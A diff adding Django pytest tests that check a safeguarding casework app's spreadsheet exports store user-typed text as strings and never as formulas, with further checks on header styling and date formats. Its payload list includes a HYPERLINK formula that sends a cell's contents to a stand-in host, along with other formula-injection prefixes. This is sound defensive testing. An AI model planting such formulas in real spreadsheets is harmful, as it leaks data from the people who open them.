@@ -1,0 +1,189 @@
+"""Every spreadsheet Vigil hands out (register exports, page and API; the escalation report; the assessment
+export; the return template; the quarterly assurance report; the NHS England review list) keeps text that a
+user typed as text: no cell anywhere is a formula, and the typed value comes back unchanged.
+
+Each case puts the payload in every free-text field it can reach (and in the provider's name), downloads
+the file through its page or API as a user allowed to, and inspects every cell of every sheet."""
+
+import datetime as dt
+import io
+
+import pytest
+from django.db import models
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from casework.registers import REGISTERS
+from casework.tests import factories as casework_factories
+from core.choices import Role
+from core.testing import make_organisation
+from organisations.choices import OrganisationKind
+from organisations.models import Organisation
+
+PAYLOADS = ['=HYPERLINK("http://x/?"&B2,"Click")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
+
+
+def as_read_back(payload):
+    """The payload as stored and read back: some forms strip surrounding white space, and XML reads a bare
+    carriage return as a line feed (core.spreadsheets writes it so)."""
+    return {payload.replace("\r", "\n"), payload.strip()}
+
+
+def free_text_fields(model, names):
+    return [
+        name
+        for name in names
+        if isinstance(model._meta.get_field(name), models.CharField | models.TextField)
+        and not model._meta.get_field(name).choices
+    ]
+
+
+def name_provider(world, payload):
+    Organisation.objects.filter(pk=world.provider.pk).update(name=payload)
+    world.provider.refresh_from_db()
+
+
+# --- one builder per export: (world, client_for, payload) -> the downloaded bytes -----------------------
+
+
+def register_export(slug, through):
+    register = next(r for r in REGISTERS if r.slug == slug)
+
+    def download(world, client_for, payload):
+        name_provider(world, payload)
+        fields = dict.fromkeys(free_text_fields(register.model, register.fields), payload)
+        record = casework_factories.BUILDERS[slug](world, **fields)
+        reader = next(role for role in (Role.DESIGNATED, Role.EXECUTIVE, Role.HR) if role in register.readers)
+        assert register.model.objects.restrict(world.user(reader)).filter(pk=record.pk).exists()
+        if through == "api":
+            return world.api(reader).get(f"/api/v1/casework/{slug}/export/")
+        return client_for(world.user(reader)).get(f"/casework/{slug}/export/")
+
+    return download
+
+
+def escalation_report(world, client_for, payload):
+    council = make_organisation(OrganisationKind.LOCAL_AUTHORITY, parent=world.icb, name=payload)
+    casework_factories.escalation(world, local_authority=council, stages=[dt.date(2026, 10, 5)], case_reference=payload)
+    return client_for(world.user(Role.DESIGNATED)).get("/casework/escalations/report/?year=2026&quarter=3&format=xlsx")
+
+
+def assessment_export(world, client_for, payload):
+    from assurance import actions as assurance_actions
+    from assurance.tests import factories as assurance_factories
+
+    name_provider(world, payload)
+    cycle = assurance_factories.open_cycle(world)
+    assessment = assurance_factories.assessment_of(cycle, world.provider)
+    provider = world.user(Role.PROVIDER)
+    responses = list(assessment.responses.all()[:2])
+    answers = {responses[0]: {"rating": "partially_met", "narrative": payload}}
+    answers[responses[1]] = {"rating": "not_applicable", "na_reason": payload, "narrative": payload}
+    assurance_actions.do_save_responses(assessment, answers, acting_user=provider)
+    responses[0].refresh_from_db()
+    assurance_actions.do_add_shortfall_action(
+        responses[0],
+        title=payload,
+        owner=payload,
+        due_date=timezone.localdate() + dt.timedelta(days=30),
+        success_measure=payload,
+        acting_user=provider,
+    )
+    return client_for(provider).get(f"/assurance/assessments/{assessment.pk}/export.xlsx")
+
+
+def return_template(world, client_for, payload):
+    from returns import actions as returns_actions
+    from returns.tests.factories import Q, entries_for
+
+    name_provider(world, payload)
+    entries = entries_for(world.provider)
+    for entry in entries.values():
+        entry.explanation = payload
+    ret = returns_actions.get_or_start_return(provider=world.provider, quarter=Q, acting_user=None)
+    returns_actions.do_save_figures(ret, entries=entries, acting_user=None)
+    return client_for(world.user(Role.PROVIDER)).get(f"/returns/{ret.pk}/template.xlsx")
+
+
+def assurance_report(world, client_for, payload):
+    from returns import actions as returns_actions
+    from returns.models import Metric
+    from returns.tests.factories import Q, submitted_return
+
+    name_provider(world, payload)
+    designated = world.user(Role.DESIGNATED)
+    ret = submitted_return(world.provider, pct=(60, 100))
+    returns_actions.do_save_narrative(icb=world.icb, quarter=Q, text=payload, acting_user=designated)
+    returns_actions.do_open_metric_action(
+        ret,
+        metric=Metric.objects.get(code="TRN-CH"),
+        rating="red",
+        title=payload,
+        owner=payload,
+        due_date=timezone.localdate() + dt.timedelta(days=30),
+        success_measure=payload,
+        acting_user=designated,
+    )
+    return client_for(designated).get(f"/returns/report/xlsx/?quarter={Q.slug}")
+
+
+def review_list(world, client_for, payload):
+    from reviews import actions as review_actions
+    from reviews import rules as review_rules
+
+    partnership = make_organisation("scp", parent=world.icb, name=payload)
+    today = timezone.localdate()
+    review_actions.do_open_review(
+        kind="rapid_review",
+        subject_reference=payload,
+        lead_partnership=partnership,
+        incident_date=today - dt.timedelta(days=20),
+        notification_date=today,
+        acting_user=world.user(Role.DESIGNATED),
+    )
+    year, quarter = review_rules.financial_quarter(today)
+    return client_for(world.user(Role.DESIGNATED)).get(f"/reviews/notifications/xlsx/?year={year}&quarter={quarter}")
+
+
+EXPORTS = {
+    **{f"casework-{r.slug}-page": register_export(r.slug, "page") for r in REGISTERS},
+    **{f"casework-{r.slug}-api": register_export(r.slug, "api") for r in REGISTERS},
+    "casework-escalation-report": escalation_report,
+    "assurance-assessment-export": assessment_export,
+    "returns-template": return_template,
+    "returns-assurance-report": assurance_report,
+    "reviews-notification-list": review_list,
+}
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
+@pytest.mark.parametrize("export", EXPORTS)
+def test_no_cell_of_any_export_is_a_formula(world, client_for, export, payload):
+    response = EXPORTS[export](world, client_for, payload)
+    assert response.status_code == 200, response.content[:300]
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    typed = [cell for cell in cells if cell.value in as_read_back(payload)]
+    assert typed, "the payload should be in the file, unchanged"
+    assert all(cell.data_type == "s" for cell in typed)
+
+
+@pytest.mark.parametrize("export", EXPORTS)
+def test_every_table_of_every_export_has_a_bold_frozen_filtered_header_and_widths(world, client_for, export):
+    book = load_workbook(io.BytesIO(EXPORTS[export](world, client_for, "Synthetic text").content))
+    for sheet in (s for s in book.worksheets if s.sheet_state == "visible"):
+        first_row = int(sheet.freeze_panes.lstrip("A"))
+        header = [cell for cell in sheet[first_row - 1] if cell.value is not None]
+        assert header and all(cell.font.b for cell in header), sheet.title
+        assert sheet.auto_filter.ref.startswith(f"A{first_row - 1}:"), sheet.title
+        assert all(sheet.column_dimensions[cell.column_letter].customWidth for cell in header), sheet.title
+
+
+def test_a_register_export_keeps_dates_as_dates_with_a_date_format(world, client_for):
+    casework_factories.allegation(world, made_on=dt.date(2026, 11, 20))
+    response = client_for(world.user(Role.DESIGNATED)).get("/casework/allegations/export/")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    made_on = next(cell for cell in sheet[1] if cell.value == "Date the allegation was made").column_letter
+    cell = sheet[f"{made_on}2"]
+    assert (cell.value.date(), cell.number_format) == (dt.date(2026, 11, 20), "DD/MM/YYYY")
